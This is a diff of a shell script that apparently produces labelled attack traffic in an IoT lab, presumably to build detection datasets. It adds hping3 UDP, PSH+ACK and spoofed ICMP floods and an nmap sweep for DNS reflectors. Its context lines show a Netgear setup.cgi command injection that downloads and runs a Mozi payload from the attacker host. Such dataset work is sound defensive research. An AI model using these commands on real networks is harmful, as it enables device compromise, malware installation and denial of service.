@@ -157,3 +157,32 @@ attack_netgear_exploit() {
         curl -s -m 5 -o /dev/null -w '%{http_code}\n' --path-as-is \
         "http://${IP[gw]}/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://${IP[atk]}/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1"
 }
+
+# --- added after runs 61-62 ----------------------------------------------------
+# A UDP flood on one flow (fixed source port, as Mirai's udpplain sends from
+# a connected socket): no new flows after the first packet.
+attack_udp_flood_oneflow() {
+    labelled udp-flood-oneflow dos "${IP[atk]}" "${IP[hub]}" 5683 hping3 \
+        "UDP flood on a single flow (hping3 -s 40000 -k), 512-byte payloads, 2 000 packets/s for 3 s" atk 120 -- \
+        hping3 -q --udp -s 40000 -k -p 5683 -d 512 -c 6000 -i u500 "${IP[hub]}"
+}
+
+# PSH+ACK segments with data to a port with no connection (a "PSH-ACK flood").
+attack_psh_ack_flood() {
+    labelled psh-ack-flood dos "${IP[atk]}" "${IP[cam]}" 80 hping3 \
+        "TCP PSH+ACK flood with 100-byte payloads (no connection), 5 000 packets" atk 120 -- \
+        hping3 -q -P -A -d 100 -p 80 -c 5000 -i u500 "${IP[cam]}"
+}
+
+# A sweep of the subnet for open DNS resolvers (reflector hunting).
+attack_udp_dns_sweep() {
+    labelled udp-dns-sweep recon "${IP[atk]}" "$NET.0/24" 53 nmap \
+        "UDP sweep of the /24 for DNS servers (nmap -sU -p 53), as reflector hunters do" atk 180 -- \
+        nmap -n -e eth0 -Pn -sU -p 53 --max-retries 1 -T4 "$NET.0/24"
+}
+
+attack_icmp_flood_spoofed() {
+    labelled icmp-flood-spoofed dos "${IP[atk]}" "${IP[spk]}" "" hping3 \
+        "ICMP echo flood with random spoofed sources (the attacker's MAC is the real sender), 4 000 packets" atk 120 -- \
+        hping3 -q -1 --rand-source -c 4000 -i u500 "${IP[spk]}"
+}
